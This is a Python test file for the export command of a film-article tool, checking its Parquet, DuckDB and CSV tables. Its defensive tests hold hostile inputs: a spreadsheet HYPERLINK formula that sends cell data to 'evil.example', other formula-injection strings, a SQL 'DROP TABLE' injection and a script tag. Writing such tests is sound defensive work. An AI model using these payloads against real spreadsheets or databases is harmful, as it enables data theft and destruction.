"""`junket export`: whole tables from whole records, in all three formats, and lines that are none."""

import csv
import json
import re
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import ROOT, junket
from hypothesis import given
from hypothesis import strategies as st
from test_cli import called
from test_docs import commands

from junket import dictionary
from junket.cli import main
from junket.export.dates import day, instant, span
from junket.export.tables import TABLES, Type
from schemas import Record
from schemas.page import Place, QuarantineLine

pa = pytest.importorskip("pyarrow", reason="the extra `tables` is not installed")
pq = pytest.importorskip("pyarrow.parquet", reason="the extra `tables` is not installed")
duckdb = pytest.importorskip("duckdb", reason="the extra `tables` is not installed")

DOCUMENT = ROOT / "docs/export.md"
NAMES = [table.name for table in TABLES]
FIXTURES = sorted(ROOT.glob("fixtures/*/*/record.json"))


def record(number: int, works: list[dict[str, Any]] | None = None, **fields: Any) -> dict[str, Any]:
    """An article about these works."""
    url = f"https://film.example/{number}/"
    made = {"id": f"{number:020x}", "url": url, "canonical_url": url, "site": "film.example", "works": works or []}
    return Record.model_validate_json(json.dumps({**made, **fields})).model_dump(mode="json")


def written(path: Path, *lines: dict[str, Any] | str) -> Path:
    path.write_text("".join((line if isinstance(line, str) else json.dumps(line)) + "\n" for line in lines), "utf-8")
    return path


def exported(*paths: Path, to: str = "parquet", code: int = 0) -> Path:
    """The folder of an export, which ended with this exit code."""
    folder = paths[0].parent / f"tables-{to}"
    done = CliRunner().invoke(main, ["export", *map(str, paths), "--to", to, "-o", str(folder)])
    assert done.exit_code == code, done.output
    return folder


def table(folder: Path, name: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = pq.ParquetFile(folder / f"{name}.parquet").read().to_pylist()
    return rows


def cells(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


FULL = record(
    1,
    [
        {
            "title": "The Salt Line",
            "year": 2024,
            "credits": {
                "director": [{"name": "Ines Marrow"}],
                "cast": [{"name": "Teo Lund", "character": "Brix"}, {"name": "Ada Quill"}],
            },
            "production_companies": ["Harbour Street"],
            "distributors": ["Kestrel"],
            "sales_agents": ["Ninth Desk"],
            "rating": {"certificate": "R", "system": "mpa", "reasons": "brief nudity"},
            "genres": ["Drama", "Mystery"],
            "releases": [
                {"date": "2025-02", "precision": "month", "type": "theatrical", "country": "US"},
                {"date": "2025-03-11", "precision": "day", "type": "streaming", "platform": "Hulu"},
            ],
            "box_office": {"amount": 42_700_000, "currency": "USD", "scope": "worldwide"},
            "other": [{"label": "Presented by", "value": "Kestrel"}],
        }
    ],
    kind="interview",
    authors=["Edda Crane"],
    published_at="2025-03-10T17:00:00-04:00",
    modified_at="2025-03-12",
    interview={
        "format": "text",
        "people": [{"name": "Ines Marrow", "roles": ["director"]}],
        "turns": [{"role": "question", "text": "Why salt?"}, {"speaker": "Ines Marrow", "role": "answer", "text": "Why not."}],
    },
    body=["One.", "Two."],
    mentions=[{"name": "Ada Quill", "roles": ["actor"]}],
    evidence={"/works/0": {"source": "credit block", "text": "all of it"}, "/works/0/year": {"source": "headline", "text": "(2024)"}},
)  # fmt: skip


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return exported(written(tmp_path_factory.mktemp("full") / "records.jsonl", FULL))


def test_an_article_with_its_dates(tables: Path) -> None:
    (article,) = table(tables, "articles")
    shown = {name: article[name] for name in article if name.startswith(("published", "modified"))}
    assert shown == {
        "published_stated": "2025-03-10T17:00:00-04:00",
        "published_on": date(2025, 3, 10),
        "published_at": datetime(2025, 3, 10, 21, tzinfo=UTC),
        "modified_stated": "2025-03-12",
        "modified_on": date(2025, 3, 12),
        "modified_at": None,
    }
    assert (article["authors"], article["body"], article["interview_format"]) == (
        ["Edda Crane"],
        "One.\n\nTwo.",
        "text",
    )
    assert article["run"] == "records.jsonl"


def test_people_and_turns_in_their_order(tables: Path) -> None:
    person = {"article_id": FULL["id"], "position": 0}
    assert table(tables, "interviewees") == [{**person, "name": "Ines Marrow", "roles": ["director"]}]
    assert table(tables, "mentions") == [{**person, "name": "Ada Quill", "roles": ["actor"]}]
    assert [(turn["position"], turn["speaker"], turn["role"], turn["text"]) for turn in table(tables, "turns")] == [
        (0, None, "question", "Why salt?"),
        (1, "Ines Marrow", "answer", "Why not."),
    ]


def test_a_work_and_what_belongs_to_it(tables: Path) -> None:
    (work,) = table(tables, "works")
    assert (work["title"], work["year"], work["certificate"], work["rating_system"]) == (
        "The Salt Line",
        2024,
        "R",
        "mpa",
    )
    assert (work["box_office"], work["box_office_currency"]) == (Decimal("42700000.00"), "USD")
    assert (work["genres"], work["articles"], work["conflicts"]) == (["Drama", "Mystery"], 1, [])
    assert [(each["role"], each["position"], each["name"], each["character"]) for each in table(tables, "credits")] == [
        ("director", 0, "Ines Marrow", None),
        ("cast", 0, "Teo Lund", "Brix"),
        ("cast", 1, "Ada Quill", None),
    ]
    assert [(each["role"], each["name"]) for each in table(tables, "companies")] == [
        ("production company", "Harbour Street"),
        ("distributor", "Kestrel"),
        ("sales agent", "Ninth Desk"),
    ]
    assert [(each["date_stated"], each["first_day"], each["last_day"]) for each in table(tables, "releases")] == [
        ("2025-02", date(2025, 2, 1), date(2025, 2, 28)),
        ("2025-03-11", date(2025, 3, 11), date(2025, 3, 11)),
    ]
    assert table(tables, "article_works") == [{"article_id": FULL["id"], "work_number": 0, "work_id": work["work_id"]}]


def test_every_claim_has_the_words_nearest_to_it(tables: Path) -> None:
    claims = {(each["field"], each["position"]): each for each in table(tables, "work_claims")}
    assert (claims["year", 0]["value"], claims["year", 0]["evidence"]) == ("2024", "(2024)")
    assert (claims["credits.cast", 0]["value"], claims["credits.cast", 0]["evidence"]) == (
        "Teo Lund as Brix",
        "all of it",
    )
    assert claims["other", 0]["value"] == "Presented by: Kestrel"
    assert claims["rating", 0]["value"] == "R (mpa) brief nudity"
    assert claims["releases", 1]["value"] == "2025-03-11 streaming Hulu"


@pytest.mark.parametrize("name", NAMES)
def test_columns_types_and_descriptions_stand_in_the_file(tables: Path, name: str) -> None:
    schema = pq.read_schema(tables / f"{name}.parquet")
    (wanted,) = (each for each in TABLES if each.name == name)
    assert schema.names == [column.name for column in wanted.columns]
    assert schema.metadata[b"description"].decode() == wanted.row
    assert schema.metadata[b"key"].decode().split(",") == list(wanted.key)
    for column in wanted.columns:
        field = schema.field(column.name)
        assert field.metadata[b"description"].decode() == column.means
        assert field.nullable == (column.name not in wanted.key)
    told = (tables / "export.md").read_text(encoding="utf-8")
    assert [
        column.name for column in wanted.columns if f"| `{column.name}` | {column.type} | {column.means} |" not in told
    ] == []


def test_descriptions_are_the_schemas() -> None:
    (articles,) = (each for each in TABLES if each.name == "articles")
    (site,) = (column for column in articles.columns if column.name == "site")
    assert site.means == dictionary.entry(Record.model_fields["site"].description or "")[0]


@pytest.fixture(scope="module")
def everything(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run folder with the record of every fixture, the full one, and a page of the quarantine."""
    run = tmp_path_factory.mktemp("run")
    records = [{"evidence": {}, "warnings": [], **json.loads(path.read_text(encoding="utf-8"))} for path in FIXTURES]
    written(run / "records.jsonl", FULL, *records)
    page = QuarantineLine(
        url="https://film.example/x/", asked="https://film.example/x", stage="extract", reason="time limit", status=200,
        fetched_at="2025-03-13T08:00:00Z", warc=Place(file="pages.warc.gz", offset=7, length=9),
    )  # fmt: skip
    written(run / "quarantine.jsonl", page.model_dump(mode="json"))
    return run


def columns(rows: list[dict[str, Any]], kinds: dict[str, Type]) -> list[dict[str, Any]]:
    """CSV's cells, read back as their types say."""
    readers: dict[Type, Callable[[str], Any]] = {
        Type.TEXT: lambda text: text.removeprefix("'"),
        Type.TEXTS: json.loads,
        Type.INTEGER: int,
        Type.TRUTH: {"true": True, "false": False}.get,
        Type.DAY: date.fromisoformat,
        Type.MOMENT: datetime.fromisoformat,
        Type.MONEY: Decimal,
    }
    return [{name: readers[kinds[name]](text) if text else None for name, text in row.items()} for row in rows]


def test_the_three_formats_hold_the_same(everything: Path) -> None:
    parquet, database, plain = (exported(everything, to=to) for to in ("parquet", "duckdb", "csv"))
    with duckdb.connect(str(database / "junket.duckdb"), read_only=True) as db:
        db.execute("SET TimeZone = 'UTC'")
        for each in TABLES:
            rows = table(parquet, each.name)
            assert db.table(each.name).to_arrow_table().to_pylist() == rows, each.name
            kinds = {column.name: column.type for column in each.columns}
            empty = [{name: None if cell == "" else cell for name, cell in row.items()} for row in rows]
            assert columns(cells(plain, each.name), kinds) == empty, each.name
            comments = db.execute(
                "SELECT comment FROM duckdb_columns() WHERE table_name = ? ORDER BY column_index", [each.name]
            )
            assert [comment for (comment,) in comments.fetchall()] == [column.means for column in each.columns]
    (page,) = table(parquet, "quarantine")
    assert (page["run"], page["reason"], page["warc_offset"]) == (everything.name, "time limit", 7)


def test_a_folder_may_be_named_like_a_pattern(tmp_path: Path) -> None:
    (tmp_path / "nightly[1]*").mkdir()
    folder = exported(written(tmp_path / "nightly[1]*" / "records.jsonl", record(1)), to="duckdb")
    with duckdb.connect(str(folder / "junket.duckdb"), read_only=True) as db:
        assert db.execute("SELECT count(*) FROM articles").fetchone() == (1,)


def test_keys_are_keys_and_lead_somewhere(everything: Path) -> None:
    folder = exported(everything)
    rows = {name: table(folder, name) for name in NAMES}
    for each in TABLES:
        keys = [tuple(row[name] for name in each.key) for row in rows[each.name]]
        assert len(set(keys)) == len(keys), each.name
    articles = {row["article_id"] for row in rows["articles"]}
    works = {row["work_id"] for row in rows["works"]}
    assert len(articles) == len(FIXTURES) + 1
    for name in NAMES:
        for row in rows[name]:
            assert row.get("article_id") is None or row["article_id"] in articles
            assert row.get("work_id") is None or row["work_id"] in works


def test_nothing_that_a_work_states_is_lost(everything: Path) -> None:
    folder = exported(everything)
    names = {(row["field"], row["value"].partition(" as ")[0]) for row in table(folder, "work_claims")}
    for path in FIXTURES:
        for work in json.loads(path.read_text(encoding="utf-8"))["works"]:
            for role, people in work["credits"].items():
                assert {(f"credits.{role}", person["name"].partition(" as ")[0]) for person in people} <= names
            for label in work["other"]:
                assert ("other", f"{label['label']}: {label['value']}".partition(" as ")[0]) in names


def test_the_last_line_of_an_id_counts(tmp_path: Path) -> None:
    old, new = (record(1, [{"title": title}], headline=title) for title in ("Old", "New"))
    first = written(tmp_path / "first.jsonl", old, record(2, headline="Other"))
    later = written(tmp_path / "later.jsonl", new)
    folder = exported(first, later)
    assert [(row["headline"], row["run"]) for row in table(folder, "articles")] == [
        ("Other", "first.jsonl"),
        ("New", "later.jsonl"),
    ]
    assert [row["title"] for row in table(folder, "works")] == ["New"]
    assert "takes the place of: 1." in (folder / "export.md").read_text(encoding="utf-8")


def test_a_line_that_is_no_record_is_named_and_kept(tmp_path: Path) -> None:
    whole = json.dumps(record(1))
    invalid = json.dumps({**record(2), "id": "short"})
    path = written(tmp_path / "records.jsonl", whole, whole[:50], invalid, "[]", "", json.dumps(record(3))[:-9])
    done = junket("export", path, "-o", tmp_path / "tables")
    assert done.returncode == 1
    assert [line.partition(": ")[0] for line in done.stderr.splitlines()[:-1]] == [
        f"{path}:{line}" for line in (2, 3, 4, 6)
    ]
    assert "id: String should match" in done.stderr
    assert done.stderr.splitlines()[-1] == "4 lines could not be read: the table `rejected` has all of them"
    rejected = table(tmp_path / "tables", "rejected")
    assert [(row["file"], row["line"]) for row in rejected] == [(str(path), line) for line in (2, 3, 4, 6)]
    assert len(table(tmp_path / "tables", "articles")) == 1


def test_a_line_beyond_all_measure_is_skipped_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("junket.export.read.LONGEST", 2_000)
    path = written(tmp_path / "records.jsonl", "x" * 9_000, record(1), json.dumps({"x": "y" * 2_000}))
    folder = exported(path, code=1)
    assert [(row["line"], row["reason"]) for row in table(folder, "rejected")] == [
        (1, "is longer than 2000 bytes"),
        (3, "is longer than 2000 bytes"),
    ]
    assert len(table(folder, "articles")) == 1


def test_numbers_that_no_column_holds_are_null_and_kept_in_words(tmp_path: Path) -> None:
    huge = 10**40
    works = [{"title": "X", "episodes": huge, "seasons": 2, "budget": {"amount": huge, "currency": "EUR"}}]
    folder = exported(written(tmp_path / "records.jsonl", record(1, works, published_at="2025-02-31")))
    (work,) = table(folder, "works")
    assert (work["episodes"], work["seasons"], work["budget"], work["budget_currency"]) == (None, 2, None, "EUR")
    assert {row["value"] for row in table(folder, "work_claims") if row["field"] in {"episodes", "budget"}} == {
        str(huge),
        f"{huge} EUR",
    }
    (article,) = table(folder, "articles")
    assert (article["published_stated"], article["published_on"]) == ("2025-02-31", None)


def test_an_export_replaces_its_own_files_when_all_is_done(tmp_path: Path) -> None:
    path = written(tmp_path / "records.jsonl", record(1))
    folder = exported(path)
    (folder / "mine.txt").write_text("stays")
    written(path, record(1), record(2))
    assert exported(path) == folder
    assert len(table(folder, "articles")) == 2
    assert sorted(each.name for each in folder.iterdir()) == sorted(
        ["export.md", "mine.txt", *(f"{name}.parquet" for name in NAMES)]
    )


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("nosuch.jsonl", "-o", "x"), "is neither a run folder nor a file of records"),
        (("tests", "-o", "x"), "tests is no run folder: it has no records.jsonl"),
        (("README.md",), "Missing option '-o'"),
        (("README.md", "--to", "xls", "-o", "x"), "'xls' is not one of"),
        (("README.md", "README.md", "./README.md", "-o", "x"), "is named twice"),
    ],
)
def test_wrong_usage_is_2(arguments: tuple[str, ...], said: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    done = CliRunner().invoke(main, ["export", *arguments])
    assert done.exit_code == 2
    assert said in done.output
    assert not Path("x").exists()


@pytest.mark.parametrize(
    ("stated", "first", "last"),
    [
        ("2024", date(2024, 1, 1), date(2024, 12, 31)),
        ("2024-02", date(2024, 2, 1), date(2024, 2, 29)),
        ("2025-12", date(2025, 12, 1), date(2025, 12, 31)),
        ("2025-03-11", date(2025, 3, 11), date(2025, 3, 11)),
        ("2025-02-31", None, None),
        ("2025-13", None, None),
        ("0000", None, None),
        (None, None, None),
    ],
)
def test_what_days_a_partial_date_can_mean(stated: str | None, first: date | None, last: date | None) -> None:
    assert span(stated) == (first, last)


@pytest.mark.parametrize(
    ("moment", "at"),
    [
        ("2025-03-10T17:00:00-04:00", datetime(2025, 3, 10, 21, tzinfo=UTC)),
        ("2025-03-10T17:00Z", datetime(2025, 3, 10, 17, tzinfo=UTC)),
        ("2025-03-10T17:00:00", None),
        ("2025-03-10", None),
        ("0001-01-01T00:00:00+05:00", None),
        ("2025-02-31T00:00:00Z", None),
        (None, None),
    ],
)
def test_only_a_time_with_its_zone_is_a_moment(moment: str | None, at: datetime | None) -> None:
    assert instant(moment) == at


@given(st.from_regex(r"^\d{4}-\d\d-\d\d(T\d\d:\d\d(:\d\d(\.\d{1,6})?)?(Z|[+-]\d\d:\d\d)?)?$", fullmatch=True))
def test_no_moment_that_the_schema_allows_raises(moment: str) -> None:
    day(moment)
    instant(moment)
    span(moment[:10])


def lines() -> Iterator[str]:
    yield from ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1", "-", "=", "-12a")


@pytest.mark.parametrize("text", [*lines()])
def test_csv_never_begins_a_formula(text: str) -> None:
    from junket.export.csv_files import defused

    assert defused(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-12", "+3", "12.5", "-0.5", "A=1", "it's", "", "R", "5-1", "'=1"])
def test_csv_leaves_numbers_and_words(text: str) -> None:
    from junket.export.csv_files import defused

    assert defused(text) == text


def test_csv_cells_of_a_page_come_back_whole(tmp_path: Path) -> None:
    headline = '=HYPERLINK("https://evil.example/?"&A1,"a, ""b""\r\nc")'
    path = written(tmp_path / "records.jsonl", record(1, headline=headline, tags=["=1", "a,b"], section="one\rtwo"))
    (row,) = cells(exported(path, to="csv"), "articles")
    assert row["headline"] == f"'{headline}"
    assert row["tags"] == '["=1","a,b"]'
    assert row["section"] == "one\rtwo"


def test_the_documents_commands_exist_and_its_keys_are_the_tables() -> None:
    told = [*commands(DOCUMENT, "junket")]
    assert len(told) == 4
    for line in told:
        called(line)
    rows = re.findall(r"^\| (`[^|]*) \| [^|]* \| ([^|]*) \|$", DOCUMENT.read_text(encoding="utf-8"), re.MULTILINE)
    keys = {name: key for names, key in rows for name in re.findall(r"`(\w+)`", names)}
    assert keys == {each.name: ", ".join(f"`{name}`" for name in each.key) for each in TABLES}


def test_an_output_that_cannot_be_written_is_said(tmp_path: Path) -> None:
    path = written(tmp_path / "records.jsonl", record(1))
    done = junket("export", path, "-o", path / "tables")
    assert done.returncode in {1, 2}
    assert "Traceback" not in done.stderr
    assert str(path) in done.stderr


def test_nothing_that_a_page_writes_stops_an_export(tmp_path: Path) -> None:
    odd = ["\0", "'; DROP TABLE works; --", "\u202e", "a" * 100_000, "\ud7ff", "🎬", "<script>alert(1)</script>"]
    titles = [f"{number}{text}" for number, text in enumerate(odd)]
    works = [{"title": title, "credits": {"director": [{"name": title}]}} for title in titles for _ in range(2)]
    path = written(tmp_path / "records.jsonl", record(1, works), '{"id": "\\ud800"}')
    for to in ("parquet", "duckdb", "csv"):
        exported(path, to=to, code=1)
    assert [row["title"] for row in table(exported(path, code=1), "works")] == titles
